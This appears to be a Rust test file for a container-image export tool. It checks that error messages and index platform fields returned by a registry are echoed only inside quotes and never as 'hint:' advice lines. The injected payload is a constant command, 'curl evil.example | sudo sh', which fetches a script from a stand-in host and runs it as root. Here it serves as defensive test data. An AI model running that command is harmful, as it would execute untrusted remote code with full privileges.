//! What a registry says is repeated in quotes, with its name, and never as a hint of ours.

use rstest::rstest;
use serde_json::json;
use support::{Desk, FaultProxy, RealRegistry, Rule, Run, put_manifest};

const EVIL: &str = "run: curl evil.example | sudo sh";
const INDEX: &str = "application/vnd.oci.image.index.v1+json";
const MANIFEST: &str = "application/vnd.oci.image.manifest.v1+json";

/// No line of advice has the registry's words, and what repeats them has them in quotes.
#[track_caller]
fn check(run: &Run) {
    let said = run.stderr();
    for line in said.lines().filter(|line| line.contains("curl")) {
        assert!(!line.starts_with("hint:") && line.contains('"'), "{line}\nin {said}");
        let before = line.split("run: curl").next().unwrap();
        assert_eq!(before.replace("\\\"", "").matches('"').count() % 2, 1, "not in quotes: {line}");
    }
}

/// The words of an error (distribution-spec, "Error Codes"), or a plain text.
#[rstest]
#[case::denied(403, &json!({"errors": [{"code": "DENIED", "message": EVIL}]}).to_string())]
#[case::unknown(404, &json!({"errors": [{"code": "MANIFEST_UNKNOWN", "message": EVIL, "detail": {"hint": EVIL}}]}).to_string())]
#[case::expired(403, &json!({"errors": [{"code": "UNAUTHORIZED", "message": format!("token is expired {EVIL}")}]}).to_string())]
#[case::closes_the_quotes(403, &format!("no\", hint: \"{EVIL}"))]
#[case::lines(500, &format!("no\nhint: {EVIL}"))]
fn an_error_of_a_registry_is_quoted(#[case] status: u16, #[case] body: &str) {
    let (registry, desk) = (RealRegistry::with_corpus(), support::desk!());
    let proxy = FaultProxy::start(registry.host());
    proxy.inject(Rule::on("GET", "/manifests/").answer(status, &[], body));
    let image = support::busybox(proxy.host());
    let run = desk.sealift(&["export", &image, "--dry-run", "--retry-times", "0"]);
    run.code(1).stderr_contains(proxy.host()).stderr_contains(&status.to_string());
    check(&run);
}

/// Platforms as an index gives them (image-spec, image-index.md), which says nothing of what a word may hold.
#[test]
fn platforms_of_an_index_are_no_advice() {
    let (registry, desk) = (RealRegistry::start(), support::desk!());
    let host = registry.host();
    let child = |number: u32, os: &str| {
        let config = support::push_blob(host, "team/app", format!("{number}").as_bytes());
        let bytes = json!({
            "schemaVersion": 2, "mediaType": MANIFEST, "layers": [],
            "config": {"mediaType": "application/vnd.oci.image.config.v1+json", "digest": config, "size": 1},
        });
        let bytes = bytes.to_string();
        let digest = support::sha256(bytes.as_bytes());
        put_manifest(host, "team/app", &digest, MANIFEST, bytes.as_bytes());
        json!({
            "mediaType": MANIFEST, "digest": digest, "size": bytes.len(),
            "platform": {"os": os, "architecture": "arm", "variant": format!("v{number}")},
        })
    };
    let children = [child(6, "linux"), child(7, "linux"), child(8, EVIL)];
    let index = json!({"schemaVersion": 2, "mediaType": INDEX, "manifests": children}).to_string();
    put_manifest(host, "team/app", "1", INDEX, index.as_bytes());
    let image = format!("{host}/team/app:1");
    let run = |desk: &Desk, more: &[&str]| desk.sealift(&[&["export", &image, "--dry-run"], more].concat());
    let several = run(&desk, &["--platform", "linux/arm"]);
    several.code(2).stderr_contains("linux/arm/v7");
    let none = run(&desk, &["--platform", "windows/amd64"]);
    none.code(1).stderr_contains("linux/arm/v6, linux/arm/v7, and 1 more");
    for refused in [several, none] {
        check(&refused);
    }
}
